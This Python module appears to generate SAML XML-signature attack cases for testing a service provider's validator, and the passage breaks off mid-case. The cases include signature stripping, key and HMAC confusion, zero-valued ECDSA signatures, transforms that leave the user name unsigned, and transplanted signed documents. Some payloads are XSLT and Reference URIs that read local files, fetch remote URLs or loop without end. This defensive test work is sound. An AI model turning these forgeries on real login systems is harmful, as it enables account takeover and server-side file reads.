"""Attacks on the Signature itself. Where a genuine key can sign the odd shape, it did: then the shape alone is the fault."""

from cryptography.hazmat.primitives import hashes
from cryptography.hazmat.primitives.asymmetric import padding

from . import keys
from . import message as m
from . import sign as s
from .canonical import INC_C14N
from .case import attack, build, change, spoiled
from .wrapping import VICTIM, after, before, cut, cut_signature, forge, genuine

P256_ORDER = 0xFFFFFFFF00000000FFFFFFFFFFFFFFFFBCE6FAADA7179E84F3B9CAC2FC632551


def resigned(base, xml=None, *, name=VICTIM, key="attacker-rsa2048", **how):
    """The message of `base` for the victim, its Signature made anew by a key that is not the IdP's."""
    xml = genuine(base) if xml is None else xml
    wanted = m.make_id(base, "response" if base.startswith("response") else "assertion")
    text = xml.replace(cut_signature(xml), s.slot(wanted)).replace("alice@example.test", name)
    how.setdefault("key_info", s.x509_key_info(key))
    return s.sign(text, wanted, key, **how)


def add_exclusion():
    for base in ("response-signed", "assertion-signed"):
        short = base.split("-")[0]
        xml = genuine(base)
        signature = cut_signature(xml)
        attack(
            f"unsigned-stripped-{short}",
            "unsigned",
            f"The Signature of the {short} is taken out, nothing else changed.",
            xml.replace(signature, ""),
            base=base,
        )
        attack(
            f"signature-empty-element-{short}",
            "signature_policy",
            "The Signature is an empty element.",
            xml.replace(signature, f'<ds:Signature xmlns:ds="{s.DS}"/>').replace("alice@", "root@"),
            base=base,
        )
        attack(
            f"signature-empty-value-{short}",
            "signature_policy",
            "SignatureValue is empty.",
            xml.replace(cut(xml, "<ds:SignatureValue>", "</ds:SignatureValue>"), "<ds:SignatureValue/>"),
            base=base,
            also=["signature_invalid"],
        )
        for name, start, end in (
            ("value", "<ds:SignatureValue>", "</ds:SignatureValue>"),
            ("info", "<ds:SignedInfo>", "</ds:SignedInfo>"),
            ("digest-value", "<ds:DigestValue>", "</ds:DigestValue>"),
            ("reference", "<ds:Reference ", "</ds:Reference>"),
        ):
            if short == "assertion":
                continue
            attack(
                f"signature-without-{name}-{short}",
                "signature_policy",
                f"The element {start[4:].strip(' >')} is taken out.",
                xml.replace(cut(xml, start, end), ""),
                base=base,
            )
    xml = genuine("both-signed")
    attack(
        "unsigned-never",
        "unsigned",
        "A Response that was never signed, for the victim.",
        build("unsigned-never", "none", name_id=VICTIM)[1],
        base="response-signed",
    )
    attack(
        "unsigned-both-stripped",
        "unsigned",
        "Both Signatures are taken out.",
        xml.replace(cut_signature(xml), "").replace(
            cut(xml[xml.index("<saml:Assertion") :], "<ds:Signature", "</ds:Signature>"), ""
        ),
        base="both-signed",
    )
    xml = genuine("response-signed")

    attack(
        "signature-only-keyinfo",
        "signature_policy",
        "The Signature holds KeyInfo alone.",
        xml.replace(
            cut_signature(xml),
            f'<ds:Signature xmlns:ds="{s.DS}">{s.x509_key_info("idp-rsa2048")}</ds:Signature>',
        ),
        base="response-signed",
    )


def add_faked_keys():
    attacker, real = s.x509_key_info("attacker-rsa2048"), s.x509_key_info("idp-rsa2048")
    both = s.x509_key_info("attacker-rsa2048", "idp-rsa2048")
    faked = {
        "own-certificate": (
            "Signed by the attacker; KeyInfo has the attacker's certificate with the IdP's subject.",
            attacker,
        ),
        "real-certificate-named": ("Signed by the attacker; KeyInfo has the IdP's real certificate.", real),
        "both-certificates": (
            "Signed by the attacker; X509Data has the attacker's and the real certificate.",
            both,
        ),
        "real-certificate-first": (
            "Signed by the attacker; X509Data has the real certificate first.",
            s.x509_key_info("idp-rsa2048", "attacker-rsa2048"),
        ),
        "key-value": (
            "Signed by the attacker; KeyInfo has the attacker's key as KeyValue.",
            s.key_value_info("attacker-rsa2048"),
        ),
        "key-value-and-real": (
            "Signed by the attacker; KeyValue is the attacker's, X509Data the real certificate.",
            s.key_value_info("attacker-rsa2048").replace("</ds:KeyInfo>", "")
            + real.replace("<ds:KeyInfo>", ""),
        ),
        "no-key-info": ("Signed by the attacker; no KeyInfo.", ""),
        "key-name": (
            "Signed by the attacker; KeyName is that of the IdP's key.",
            "<ds:KeyInfo><ds:KeyName>signing-2026</ds:KeyName></ds:KeyInfo>",
        ),
    }
    for name, (why, info) in faked.items():
        for base in ("response-signed", "assertion-signed")[
            : 2 if name in ("own-certificate", "key-value") else 1
        ]:
            attack(
                f"faked-{name}-{base.split('-')[0]}",
                "signature_invalid",
                why,
                resigned(base, key_info=info),
                base=base,
            )
    odd = {
        "retrieval-http": (
            f'<ds:RetrievalMethod URI="http://fetch.example.test/cert.der" Type="{s.DS}rawX509Certificate"/>'
        ),
        "retrieval-file": f'<ds:RetrievalMethod URI="file:///etc/hostname" Type="{s.DS}rawX509Certificate"/>',
        "retrieval-same-document": f'<ds:RetrievalMethod URI="#key" Type="{s.DS}X509Data"/>',
        "key-info-reference": (
            '<dsig11:KeyInfoReference xmlns:dsig11="http://www.w3.org/2009/xmldsig11#" URI="#key"/>'
        ),
        "security-token-reference": (
            "<w:SecurityTokenReference"
            ' xmlns:w="http://docs.oasis-open.org/wss/2004/01/oasis-200401-wss-wssecurity-secext-1.0.xsd"><w:Reference'
            ' URI="http://fetch.example.test/token"/></w:SecurityTokenReference>'
        ),
        "encrypted-key": (
            '<xenc:EncryptedKey xmlns:xenc="http://www.w3.org/2001/04/xmlenc#"><xenc:EncryptionMethod'
            ' Algorithm="http://www.w3.org/2001/04/xmlenc#rsa-1_5"/><xenc:CipherData><xenc:CipherReference'
            ' URI="http://fetch.example.test/k"/></xenc:CipherData></xenc:EncryptedKey>'
        ),
    }
    for name, piece in odd.items():
        attack(
            f"keyinfo-{name}",
            "signature_policy",
            f"KeyInfo holds {piece.split(':')[1].split(' ')[0].split('>')[0]}, which no setting needs; "
            "the signature itself is genuine.",
            change(
                genuine("response-signed"),
                (
                    cut(genuine("response-signed"), "<ds:KeyInfo>", "</ds:KeyInfo>"),
                    f"<ds:KeyInfo>{piece}</ds:KeyInfo>",
                ),
            ),
            base="response-signed",
        )
    for name, key, why in (
        (
            "encryption-only",
            "idp-rsa2048-encryption",
            "the IdP's key that its metadata gives for encryption only",
        ),
        ("retired", "idp-rsa2048-retired", "a key of the IdP that is no longer listed"),
        ("not-yet-listed", "idp-rsa2048-next", "the IdP's next key, which is not listed yet"),
        ("other-idp", "other-idp-rsa2048", "the key of another IdP"),
        ("ours", "sp-current", "our own key"),
    ):
        spoiled(f"wrong-key-{name}", "signature_invalid", f"Signed by {why}.", "assertion", {"key": key})
    spoiled(
        "wrong-key-ec-at-rsa-idp",
        "signature_invalid",
        "Signed by an EC key at an IdP that has an RSA certificate only.",
        how={"key": "attacker-p256"},
        also=["signature_policy"],
    )
    spoiled(
        "wrong-key-rsa-at-ec-idp",
        "signature_invalid",
        "Signed by an RSA key at an IdP that has an EC certificate only.",
        how={"key": "attacker-rsa2048"},
        idp="p256",
        also=["signature_policy"],
    )
    spoiled(
        "wrong-key-p256-at-p384-idp",
        "signature_invalid",
        "Signed with P-256 at an IdP that has a P-384 certificate.",
        how={"key": "attacker-p256"},
        idp="p384",
    )
    spoiled(
        "wrong-key-mixed-list",
        "signature_invalid",
        "Signed by the attacker's EC key at an IdP with a mixed list of certificates.",
        how={"key": "attacker-p256"},
        idp="mixed",
    )


def add_confusion():
    methods = {"sha256": s.MORE + "hmac-sha256", "sha1": s.DS + "hmac-sha1", "sha512": s.MORE + "hmac-sha512"}
    for form, secret in s.public_forms("idp-rsa2048").items():
        attack(
            f"hmac-sha256-{form}",
            "signature_policy",
            f"HMAC-SHA256 keyed with the IdP's public key as {form}.",
            resigned(
                "response-signed",
                method=methods["sha256"],
                key_info=s.x509_key_info("idp-rsa2048"),
                raw=lambda octets, secret=secret: s.hmac_octets(secret, "sha256", octets),
            ),
            base="response-signed",
        )
    spki = s.public_forms("idp-rsa2048")["spki-der"]
    for digest in ("sha1", "sha512"):
        attack(
            f"hmac-{digest}-spki-der",
            "signature_policy",
            f"HMAC-{digest} keyed with the IdP's SubjectPublicKeyInfo.",
            resigned(
                "assertion-signed",
                method=methods[digest],
                raw=lambda octets, d=digest: s.hmac_octets(spki, d, octets),
            ),
            base="assertion-signed",
        )
    spki = s.public_forms("idp-p256")["spki-der"]
    spoiled(
        "hmac-sha256-ec-spki",
        "signature_policy",
        "HMAC-SHA256 keyed with the IdP's EC SubjectPublicKeyInfo.",
        idp="p256",
        how={"method": methods["sha256"], "raw": lambda octets: s.hmac_octets(spki, "sha256", octets)},
    )
    attack(
        "hmac-truncated",
        "signature_policy",
        "HMAC-SHA256 with HMACOutputLength 8 and a value of one byte.",
        resigned(
            "response-signed",
            method=methods["sha256"],
            raw=lambda octets: b"\x00",
            edit_signed_info=lambda x: x.replace(
                f'Algorithm="{methods["sha256"]}"/>',
                f'Algorithm="{methods["sha256"]}"><ds:HMACOutputLength>8</ds:HMACOutputLength>'
                "</ds:SignatureMethod>",
            ),
        ),
        base="response-signed",
    )
    for name, method in (
        ("none", "none"),
        ("empty", ""),
        ("unknown", "urn:example:rot13"),
        ("blank-after", s.MORE + "rsa-sha256 "),
    ):
        attack(
            f"method-{name}",
            "signature_policy",
            f'SignatureMethod is "{method}"; SignatureValue is the bare digest of SignedInfo.',
            resigned(
                "response-signed",
                method=method or " ",
                raw=lambda octets: s.DIGESTS["sha256"][1](octets).digest(),
            ).replace('SignatureMethod Algorithm=" "', f'SignatureMethod Algorithm="{method}"'),
            base="response-signed",
        )
    attack(
        "method-absent",
        "signature_policy",
        "SignedInfo has no SignatureMethod.",
        resigned(
            "response-signed", edit_signed_info=lambda x: x.replace(cut(x, "<ds:SignatureMethod", "/>"), "")
        ),
        base="response-signed",
    )
    attack(
        "method-twice",
        "signature_policy",
        "SignedInfo has two SignatureMethods, HMAC first.",
        resigned(
            "response-signed",
            edit_signed_info=lambda x: x.replace(
                "<ds:SignatureMethod",
                f'<ds:SignatureMethod Algorithm="{methods["sha256"]}"/><ds:SignatureMethod',
                1,
            ),
        ),
        base="response-signed",
    )
    for name, r, t in (
        ("zero", 0, 0),
        ("order", P256_ORDER, P256_ORDER),
        ("zero-one", 0, 1),
        ("one-order", 1, P256_ORDER),
    ):
        spoiled(
            f"ecdsa-psychic-{name}",
            "signature_invalid",
            f"ECDSA with r = {label(r)} and s = {label(t)}, at an IdP with an EC key.",
            how={
                "key": "idp-p256",
                "raw": lambda octets, r=r, t=t: r.to_bytes(32, "big") + t.to_bytes(32, "big"),
            },
            idp="p256",
            name_id=VICTIM,
            also=["signature_policy"],
        )
    spoiled(
        "ecdsa-psychic-at-rsa-idp",
        "signature_invalid",
        "ECDSA with r = s = 0, at an IdP with an RSA key.",
        how={"method": s.EC_METHODS["sha256"], "raw": lambda octets: bytes(64)},
        name_id=VICTIM,
        also=["signature_policy"],
    )
    der = lambda octets: keys.load_key("idp-p256").sign(
        octets, s.ec.ECDSA(hashes.SHA256(), deterministic_signing=True)
    )
    spoiled(
        "ecdsa-der",
        "signature_invalid",
        "A genuine ECDSA signature in DER instead of r and s side by side.",
        how={"key": "idp-p256", "raw": der},
        idp="p256",
        also=["signature_policy"],
    )
    swap = lambda octets: (lambda v: v[32:] + v[:32])(s.sign_octets("idp-p256", "sha256", octets))
    spoiled(
        "ecdsa-swapped",
        "signature_invalid",
        "A genuine ECDSA signature with r and s swapped.",
        how={"key": "idp-p256", "raw": swap},
        idp="p256",
    )


def label(number):
    return {0: "0", 1: "1"}.get(number, "the order of the group")


def pss(octets):
    return keys.load_key("idp-rsa2048").sign(
        octets, padding.PSS(padding.MGF1(hashes.SHA256()), 0), hashes.SHA256()
    )


def add_weak():
    for name, how, idp in (
        ("rsa-sha1", {"digest": "sha1"}, "acme"),
        ("digest-sha1", {"digest": "sha1", "signature_digest": "sha256"}, "acme"),
        ("signature-sha1", {"digest": "sha256", "signature_digest": "sha1"}, "acme"),
        ("md5", {"digest": "md5"}, "acme"),
        ("sha224", {"digest": "sha224"}, "acme"),
        ("ecdsa-sha1", {"key": "idp-p256", "digest": "sha1"}, "p256"),
        ("md5-where-sha1-allowed", {"digest": "md5"}, "acme-sha1"),
    ):
        said = ", ".join(f"{k.replace('_', ' ')} {v}" for k, v in how.items())
        spoiled(
            f"weak-{name}",
            "signature_policy",
            f"Signed by the IdP's own key: {said}.",
            "response" if "digest" in name else "assertion",
            how,
            idp=idp,
        )
    spoiled(
        "weak-rsa1024",
        "signature_policy",
        "Signed with RSA-SHA256 by the IdP's own key, which has 1024 bits.",
        how={"key": "idp-rsa1024"},
        idp="rsa1024",
        also=["signature_invalid", "metadata"],
    )
    sha1 = lambda octets: s.sign_octets("idp-rsa2048", "sha1", octets)
    spoiled(
        "method-sha256-value-sha1",
        "signature_invalid",
        "SignatureMethod says RSA-SHA256, the value was made with SHA-1.",
        how={"raw": sha1},
    )
    spoiled(
        "method-pkcs1-value-pss",
        "signature_invalid",
        "SignatureMethod says RSA-SHA256, the value is RSA-PSS.",
        how={"raw": pss},
    )
    for name, method in (
        ("rsa-pss", "http://www.w3.org/2007/05/xmldsig-more#sha256-rsa-MGF1"),
        ("eddsa", "http://www.w3.org/2021/04/xmldsig-more#eddsa-ed25519"),
    ):
        spoiled(
            f"weak-method-{name}",
            "signature_policy",
            f"SignatureMethod is {method}, which is not in the list.",
            how={"method": method, "raw": pss},
        )
    spoiled(
        "digest-method-unknown",
        "signature_policy",
        "DigestMethod is SHA3-256, which is not in the list.",
        how={
            "edit_signed_info": lambda x: x.replace(
                s.DIGESTS["sha256"][0], "http://www.w3.org/2007/05/xmldsig-more#sha3-256"
            )
        },
    )


def add_values():
    base, xml = "response-signed", genuine("response-signed")
    value = cut(xml, "<ds:SignatureValue>", "</ds:SignatureValue>")[19:-20]
    digest = cut(xml, "<ds:DigestValue>", "</ds:DigestValue>")[16:-17]
    raw = s.base64.b64decode(value)
    for name, why, new, also in (
        ("bit", "One bit of SignatureValue is flipped.", s.encode(bytes([raw[0] ^ 1]) + raw[1:]), ()),
        ("zero", "SignatureValue is 256 bytes of zero.", s.encode(bytes(256)), ()),
        ("short", "The last byte of SignatureValue is missing.", s.encode(raw[:-1]), ()),
        ("long", "A byte of zero stands before SignatureValue's octets.", s.encode(b"\x00" + raw), ()),
        ("not-base64", "SignatureValue is not base64.", "!" + value[1:], ("signature_policy", "malformed")),
    ):
        attack(f"value-{name}", "signature_invalid", why, change(xml, (value, new)), base=base, also=also)
    attack(
        "value-digest-flipped",
        "signature_invalid",
        "One bit of DigestValue is flipped.",
        change(
            xml,
            (digest, s.encode(bytes([s.base64.b64decode(digest)[0] ^ 1]) + s.base64.b64decode(digest)[1:])),
        ),
        base=base,
    )
    forged = xml.replace("alice@example.test", VICTIM)
    wanted = m.make_id(base, "response")
    octets = s.canonical_without_signature(forged.replace(cut_signature(forged), s.slot(wanted)), wanted)
    attack(
        "value-digest-renewed",
        "signature_invalid",
        "The name is changed and DigestValue renewed; SignatureValue is the old one.",
        change(forged, (digest, s.digest_of(octets))),
        base=base,
    )
    _, twin = build(
        "tw", "response", name_id=VICTIM, response_id=wanted, assertion_id=m.make_id(base, "assertion")
    )
    attack(
        "signature-of-another-transplanted",
        "signature_policy",
        "The Signature of another genuine Response is put into a forged one.",
        forged.replace(cut_signature(forged), cut_signature(genuine("rsa2048-sha512"))),
        base=base,
    )
    attack(
        "signature-of-same-id-transplanted",
        "signature_invalid",
        "The genuine Signature is put into another Response of the same ID.",
        twin.replace(cut_signature(twin), cut_signature(xml)),
        base=base,
    )
    for name, edit in (
        ("element-in-digest", lambda x: x.replace(f">{digest}<", f'><v:d xmlns:v="urn:v"/>{digest}<')),
        (
            "value-twice",
            lambda x: x.replace(
                "</ds:SignatureValue>", f"</ds:SignatureValue><ds:SignatureValue>{value}</ds:SignatureValue>"
            ),
        ),
        (
            "digest-twice",
            lambda x: x.replace(
                "</ds:DigestValue>", f"</ds:DigestValue><ds:DigestValue>{digest}</ds:DigestValue>"
            ),
        ),
        ("foreign-child", lambda x: x.replace("</ds:Signature>", '<v:x xmlns:v="urn:v"/></ds:Signature>')),
        (
            "foreign-in-signed-info",
            lambda x: x.replace("</ds:SignedInfo>", '<v:x xmlns:v="urn:v"/></ds:SignedInfo>'),
        ),
    ):
        attack(
            f"signature-shape-{name}",
            "signature_policy",
            f"The Signature's shape is bent: {name.replace('-', ' ')}.",
            edit(xml),
            base=base,
        )
    attack(
        "object-empty",
        "signature_policy",
        "The genuine Signature has an empty ds:Object.",
        before(xml, "</ds:Signature>", "<ds:Object/>"),
        base=base,
    )
    attack(
        "object-text",
        "signature_policy",
        "The genuine Signature has a ds:Object with text.",
        before(xml, "</ds:Signature>", "<ds:Object>note</ds:Object>"),
        base=base,
    )


def without(text, wanted, name):
    """Canonical octets of the signed element without its elements `name`, as a transform that removes them leaves it."""
    root = s.parse_xml(text.replace(s.slot(wanted), ""))
    target = s.find_by_id(root, wanted)
    for node in list(target.iter(f"{{{m.SAML}}}{name}")):
        node.getparent().remove(node)
    return s.canonicalize(target)


XPATH = "http://www.w3.org/TR/1999/REC-xpath-19991116"
FILTER2 = "http://www.w3.org/2002/06/xmldsig-filter2"
XSLT = "http://www.w3.org/TR/1999/REC-xslt-19991116"


def stylesheet(body):
    return (
        '<xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform" version="1.0"><xsl:template'
        f' match="/">{body}</xsl:template></xsl:stylesheet>'
    )


def add_transforms():
    unsign = {
        "xpath": s.transform(XPATH, "<ds:XPath>not(ancestor-or-self::*[local-name()='{}'])</ds:XPath>"),
        "filter2": s.transform(
            FILTER2, f'<f2:XPath xmlns:f2="{FILTER2}" Filter="subtract">//*[local-name()=\'{{}}\']</f2:XPath>'
        ),
    }
    changes = {
        "NameID": [(">alice@example.test</saml:NameID>", f">{VICTIM}</saml:NameID>")],
        "AttributeStatement": [
            (">alice@example.test</saml:AttributeValue>", f">{VICTIM}</saml:AttributeValue>"),
            (">staff<", ">root<"),
        ],
        "Conditions": [
            (
                f'<saml:Conditions NotBefore="{m.at(-60)}" NotOnOrAfter="{m.at(300)}"',
                f'<saml:Conditions NotBefore="{m.at(-60)}" NotOnOrAfter="{m.at(86700)}"',
            )
        ],
    }
    for kind, piece in unsign.items():
        for element in ("NameID", "AttributeStatement", "Conditions"):
            for signed in ("response", "assertion")[: 2 if element == "NameID" else 1]:
                name = f"transform-{kind}-{element.lower()}-{signed}"
                message = m.Message(name)
                wanted = message.response_id if signed == "response" else message.assertion_id
                text = message.response_text()
                other = message.assertion_id if signed == "response" else message.response_id
                text = text.replace(s.slot(other), "")
                xml = s.sign(
                    text,
                    wanted,
                    octets=without(text, wanted, element),
                    key_info=s.x509_key_info("idp-rsa2048"),
                    transforms=s.transform(s.ENVELOPED) + piece.format(element) + s.transform(s.EXC_C14N),
                )
                attack(
                    name,
                    "signature_policy",
                    f"An {kind} transform takes {element} out of what the IdP's key signed; it was changed"
                    " then, and the signature stays valid.",
                    change(xml, *changes[element]),
                    base=f"{signed}-signed",
                )
    stale = "The digest was not renewed."
    costly = (
        "<ds:XPath>count(//. | //@* | //namespace::*) = count(//. | //@* | //namespace::*) and"
        " count(//*[count(//*[count(//*) &gt; 0]) &gt; 0]) &gt; 0</ds:XPath>"
    )
    odd = {
        "xslt-file": (
            "XSLT reads a local file by document().",
            s.transform(XSLT, stylesheet("<xsl:copy-of select=\"document('file:///etc/hostname')\"/>")),
        ),
        "xslt-http": (
            "XSLT asks a server by document().",
            s.transform(
                XSLT, stylesheet("<xsl:copy-of select=\"document('http://fetch.example.test/x')\"/>")
            ),
        ),
        "xslt-loop": (
            "XSLT calls itself without end.",
            s.transform(
                XSLT,
                '<xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform" version="1.0"><xsl:template'
                ' name="a" match="/"><xsl:call-template name="a"/></xsl:template></xsl:stylesheet>',
            ),
        ),
        "xpath-costly": (
            "An XPath expression counts all nodes for each node, many times over.",
            s.transform(XPATH, costly),
        ),
        "base64": ("A base64 transform.", s.transform(s.DS + "base64")),
        "unknown": ("A transform of an unknown name.", s.transform("urn:example:transform")),
        "400": ("400 enveloped-signature transforms.", s.transform(s.ENVELOPED) * 400),
    }
    for name, (why, piece) in odd.items():
        spoiled(
            f"transform-{name}",
            "signature_policy",
            f"{why} {stale}",
            "assertion",
            {"transforms": s.transform(s.ENVELOPED) + piece},
            repeated=s.transform(s.ENVELOPED) if name == "400" else None,
        )
    enveloped, exclusive = s.transform(s.ENVELOPED), s.transform(s.EXC_C14N)
    for name, why, listed in (
        ("none", "Reference has no transforms.", ""),
        ("only-exclusive", "Only exclusive canonicalization, no enveloped-signature.", exclusive),
        ("order", "Exclusive canonicalization before enveloped-signature.", exclusive + enveloped),
        ("enveloped-twice", "enveloped-signature twice.", enveloped + enveloped + exclusive),
    ):
        spoiled(f"transform-list-{name}", "signature_policy", why, how={"transforms": listed})
    for name, method in (
        ("inclusive", INC_C14N),
        ("exclusive-comments", s.EXC_C14N + "WithComments"),
        ("c14n11", "http://www.w3.org/2006/12/xml-c14n11"),
    ):
        plain = INC_C14N if "11" in name else method
        spoiled(
            f"transform-c14n-{name}",
            "signature_policy",
            f"The second transform is {method}; rightly digested and signed.",
            how={"transforms": enveloped + s.transform(method), "reference_c14n": plain},
        )
        spoiled(
            f"c14n-method-{name}",
            "signature_policy",
            f"CanonicalizationMethod is {method}; rightly signed.",
            how={
                "c14n": plain,
                "edit_signed_info": lambda x, plain=plain, method=method: x.replace(
                    f'CanonicalizationMethod Algorithm="{plain}"',
                    f'CanonicalizationMethod Algorithm="{method}"',
                ),
            },
        )
    spoiled(
        "c14n-method-unknown",
        "signature_policy",
        "CanonicalizationMethod is of an unknown name.",
        how={
            "edit_signed_info": lambda x: x.replace(
                f'CanonicalizationMethod Algorithm="{s.EXC_C14N}"',
                'CanonicalizationMethod Algorithm="urn:example:c14n"',
            )
        },
    )

    spoiled(
        "c14n-method-absent",
        "signature_policy",
        "SignedInfo has no CanonicalizationMethod.",
        how={
            "edit_signed_info": lambda x: x.replace(
                cut(x, "<ds:CanonicalizationMethod", "</ds:CanonicalizationMethod>"), ""
            )
        },
    )
    twice = s.transform(
        s.EXC_C14N, f'<ec:InclusiveNamespaces xmlns:ec="{s.EXC_C14N}" PrefixList="saml"/>' * 2
    )
    spoiled(
        "inclusive-namespaces-twice",
        "signature_policy",
        "The second transform has two InclusiveNamespaces.",
        how={"transforms": enveloped + twice},
    )
    foreign = s.transform(s.EXC_C14N, '<v:x xmlns:v="urn:example:v"/>')
    spoiled(
        "exclusive-foreign-child",
        "signature_policy",
        "The second transform has a foreign child.",
        how={"transforms": enveloped + foreign},
    )
    inside = s.transform(s.ENVELOPED, "<ds:XPath>true()</ds:XPath>")
    spoiled(
        "enveloped-with-child",
        "signature_policy",
        "enveloped-signature has an XPath as its child.",
        how={"transforms": inside + exclusive},
    )


def add_references():
    for name, uri in (
        ("http", "http://fetch.example.test/x"),
        ("file", "file:///etc/hostname"),
        ("file-endless", "file:///dev/zero"),
        ("data", "data:text/plain,x"),
    ):
        spoiled(
            f"reference-{name}",
            "signature_policy",
            f"The Reference's URI is {uri}; nothing may be fetched.",
            "assertion",
            {"uri": uri},
        )
    spoiled(
        "reference-empty",
        "signature_policy",
        "The Reference's URI is empty, the whole document; rightly signed.",
        how={"uri": ""},
    )

    spoiled("reference-absent", "signature_policy", "The Reference has no URI.", how={"uri": None})
    spoiled(
        "reference-none",
        "signature_policy",
        "SignedInfo has no Reference; SignatureValue is genuine.",
        how={"references": ""},
        name_id=VICTIM,
    )
    spoiled("reference-hash-alone", "signature_policy", "The Reference's URI is # alone.", how={"uri": "#"})
    for name, form in (
        ("root", "#xpointer(/)"),
        ("id", "#xpointer(id('{}'))"),
        ("element", "#element(/1)"),
        ("bare", "{}"),
    ):
        message_id = m.make_id(f"reference-xpointer-{name}", "response")
        uri = form.format(message_id[1:] if name == "percent" else message_id)
        spoiled(
            f"reference-xpointer-{name}",
            "signature_policy",
            f"The Reference's URI is {form.format('ID')}.",
            how={"uri": uri},
        )
    for name, count in (("two-same", 2), ("400", 400)):
        pieces = []

        def listed(x, count=count, pieces=pieces):
            pieces.append(cut(x, "<ds:Reference ", "</ds:Reference>"))
            return x.replace(pieces[0], pieces[0] * count)

        _, xml = build(f"reference-{name}", how={"edit_signed_info": listed})
        attack(
            f"reference-{name}",
            "signature_policy",
            f"The right Reference stands {count} times, rightly signed.",
            xml,
            base="response-signed",
            repeated=pieces[0] if count > 2 else None,
        )
    name = "reference-response-and-assertion"
    message = m.Message(name)
    text = message.response_text().replace(s.slot(message.assertion_id), "")
    both = s.reference(
        f"#{message.response_id}", s.digest_of(s.canonical_without_signature(text, message.response_id))
    ) + s.reference(
        f"#{message.assertion_id}", s.digest_of(s.canonical_without_signature(text, message.assertion_id))
    )
    attack(
        name,
        "signature_policy",
        "Two References, to the Response and to the Assertion, rightly signed.",
        s.sign(text, message.response_id, references=both),
        base="response-signed",
    )
    name = "reference-detached-assertion"
    message = m.Message(name)
    text = message.response_text().replace(s.slot(message.assertion_id), "")
    right = s.reference(
        f"#{message.assertion_id}", s.digest_of(s.canonical_without_signature(text, message.assertion_id))
    )
    attack(
        name,
        "signature_policy",
        "The Response's Signature refers to the Assertion, rightly signed.",
        s.sign(text, message.response_id, references=right, key_info=s.x509_key_info("idp-rsa2048")),
        base="assertion-signed",
    )
    name = "reference-manifest"
    message = m.Message(name)
    text = message.response_text().replace(s.slot(message.assertion_id), "")
    inner = s.reference(
        f"#{message.response_id}", s.digest_of(s.canonical_without_signature(text, message.response_id))
    )
    manifest = f'<ds:Manifest xmlns:ds="{s.DS}" Id="manifest">{inner}</ds:Manifest>'
    digest = s.digest_of(s.canonicalize(s.parse_xml(manifest)))
    outer = s.reference(
        "#manifest", digest, transforms=s.transform(s.EXC_C14N), attributes=f' Type="{s.DS}Manifest"'
    )
    attack(
        name,
        "signature_policy",
        "The Reference points to a Manifest in ds:Object, which points to the Response; rightly signed, then"
        " the name was changed.",
        s.sign(
            text,
            message.response_id,
            references=outer,
            wrap=lambda x: before(x, "</ds:Signature>", f"<ds:Object>{manifest}</ds:Object>"),
        ).replace("alice@", "root@"),
        base="response-signed",
        also=["structure"],
    )
    add_foreign_signed()


def add_foreign_signed():
    """Something else that the IdP really signed, put into a Response that it did not."""
    evil = forge(genuine("response-signed"))
    logout = (
        '<samlp:LogoutResponse xmlns:samlp="{p}" xmlns:saml="{a}" ID="_lr1" Version="2.0" IssueInstant="{t}"'
        ' Destination="{d}"'
        ' InResponseTo="_q"><saml:Issuer>{i}</saml:Issuer>[[sign:_lr1]]<samlp:Status><samlp:StatusCode'
        ' Value="{s}"/></samlp:Status></samlp:LogoutResponse>'
    ).format(p=m.SAMLP, a=m.SAML, t=m.at(-2), d=m.SLO, i=m.IDP_ENTITY, s=m.SUCCESS)
    metadata = (
        '<md:EntityDescriptor xmlns:md="urn:oasis:names:tc:SAML:2.0:metadata" ID="_md1"'
        ' entityID="{}">[[sign:_md1]]<md:IDPSSODescriptor'
        ' protocolSupportEnumeration="{}"><md:SingleSignOnService'
        ' Binding="urn:oasis:names:tc:SAML:2.0:bindings:HTTP-Redirect"'
        ' Location="https://idp.example.test/sso"/></md:IDPSSODescriptor></md:EntityDescriptor>'
    ).format(m.IDP_ENTITY, m.SAMLP)
    for name, text, wanted in (("logout-response", logout, "_lr1"), ("metadata", metadata, "_md1")):
        signed = s.sign(text, wanted)
        attack(
            f"signed-{name}-in-extensions",
            "structure",
            f"A {name} that the IdP signed lies in Extensions of a forged Response.",
            before(evil, "<samlp:Status>", f"<samlp:Extensions>{signed}</samlp:Extensions>"),
            base="response-signed",
        )
        attack(
            f"signed-{name}-in-status-detail",
            "structure",
            f"A {name} that the IdP signed lies in StatusDetail of a forged Response.",
            before(evil, "</samlp:Status>", f"<samlp:StatusDetail>{signed}</samlp:StatusDetail>"),
            base="response-signed",
        )
        moved = cut_signature(signed)
        attack(
            f"signed-{name}-signature-moved",
            "structure",
            f"The Signature of a {name} is in a forged Response, the {name} in Extensions.",
            before(
                after(evil, "</saml:Issuer>", moved),
                "<samlp:Status>",
                f"<samlp:Extensions>{signed.replace(moved, '')}</samlp:Extensions>",
            ),
            base="response-signed",
            also=["signature_policy"],
        )
    attack(
        "root-logout-response",
        "structure",
        "The posted message is a signed LogoutResponse, not a Response.",
        s.sign(logout, "_lr1"),
        base="response-signed",
    )
    attack(
        "root-metadata",
        "structure",
        "The posted message is the IdP's signed metadata.",
        s.sign(metadata, "_md1"),
        base="response-signed",
    )
    for element, tag in (("status", "samlp:Status"), ("issuer", "saml:Issuer")):
        xml = forge(genuine("response-signed"))
        marked = xml.replace(f"<{tag}>", f'<{tag} ID="_part">', 1)
        piece = s.canonicalize(s.find_by_id(s.parse_xml(marked), "_part"))
        at = "</saml:Issuer>"
        slotted = marked.replace(at, at + "[[sign:_x]]", 1)
        signed = s.sign(
            slotted,
            "_x",
            references=s.reference("#_part", s.digest_of(piece)),
            key_info=s.x509_key_info("idp-rsa2048"),
        )
        attack(
            f"signed-{element}-in-forged-response",
            "structure",
            f"The Signature in a forged Response covers its {element} only.",
            signed,
            base="response-signed",
            also=["signature_policy"],
        )


def add_known():
    """Builds after published vulnerabilities of SAML libraries."""
    for base in ("response-signed", "assertion-signed"):
        short = base.split("-")[0]
        forged = genuine(base).replace("alice@example.test", VICTIM)
        wanted = m.make_id(base, "response" if short == "response" else "assertion")
        info = cut(forged, "<ds:SignedInfo>", "</ds:SignedInfo>")
        digest = cut(info, "<ds:DigestValue>", "</ds:DigestValue>")
        octets = s.canonical_without_signature(forged.replace(cut_signature(forged), s.slot(wanted)), wanted)
        new = f"<ds:DigestValue>{s.digest_of(octets)}</ds:DigestValue>"
        second = info.replace(digest, new)
        attack(
            f"second-signed-info-before-{short}",
            "signature_policy",
            "A second SignedInfo with the forged digest stands before the signed one (CVE-2025-29774).",
